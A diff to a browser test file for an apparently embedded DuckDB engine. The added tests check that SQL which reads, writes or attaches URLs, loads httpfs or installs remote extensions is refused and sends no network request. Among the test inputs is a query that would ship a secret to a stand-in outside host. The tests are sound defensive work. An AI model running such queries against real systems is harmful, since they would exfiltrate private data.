@@ -32,8 +32,46 @@ describe('the built engine under the policy of the app', () => {
 		expect(tab.refused).toEqual([]);
 	});
 
+	it('sends nothing for SQL that reaches for an address, here or elsewhere', async () => {
+		const kinds = await tab.page.evaluate(async () => {
+			const duck = new window.roundtable.engine.Engine();
+			const here = location.origin;
+			const kinds: string[] = [];
+			for (const sql of [
+				`SELECT * FROM read_csv('${here}/api/private.csv')`,
+				`SELECT * FROM read_text('${here}/api/private.csv')`,
+				`SELECT * FROM '${here}/api/private.parquet'`,
+				`COPY (SELECT 1) TO '${here}/api/private.csv'`,
+				`ATTACH '${here}/api/private.db'`,
+				"SELECT * FROM read_csv('https://other.example/private?d=SECRET')",
+				'LOAD httpfs',
+				"INSTALL json FROM 'https://other.example/private'; LOAD json"
+			]) {
+				const outcome = await duck.run(sql);
+				kinds.push(outcome.ok ? 'ok' : outcome.kind);
+			}
+			return kinds;
+		});
+		// A name that ends in .parquet is taken for one of a table.
+		expect(kinds).toEqual(['refused', 'refused', 'sql', ...Array<string>(5).fill('refused')]);
+		expect(tab.requested.filter((url) => /private|extension|other/.test(url))).toEqual([]);
+	});
+
+	it('that cannot be fetched says so, and starts once it can', async () => {
+		await tab.page.route('**/duckdb-eh*.wasm', (route) => route.abort());
+		const start = () =>
+			tab.page.evaluate(async () => {
+				const duck = new window.roundtable.engine.Engine();
+				const outcome = await duck.run('SELECT 1');
+				return { kind: outcome.ok ? 'ok' : outcome.kind, state: duck.state };
+			});
+		expect(await start()).toEqual({ kind: 'start', state: 'off' });
+		await tab.page.unroute('**/duckdb-eh*.wasm');
+		expect(await start()).toEqual({ kind: 'ok', state: 'ready' });
+	});
+
 	it('comes in files whose names the server knows, and asks for nothing else', async () => {
-		const names = tab.requested.map((url) => new URL(url).pathname.split('/').at(-1) ?? '');
+		const names = [...new Set(tab.requested.map((url) => new URL(url).pathname.split('/').at(-1) ?? ''))];
 		expect(names.filter((name) => name.includes('duckdb-browser-eh.worker'))).toHaveLength(1);
 		expect(names.filter((name) => /^duckdb-eh.*\.wasm$/.test(name))).toHaveLength(1);
 		expect(names.some((name) => /mvp|coi|pthread/.test(name))).toBe(false);
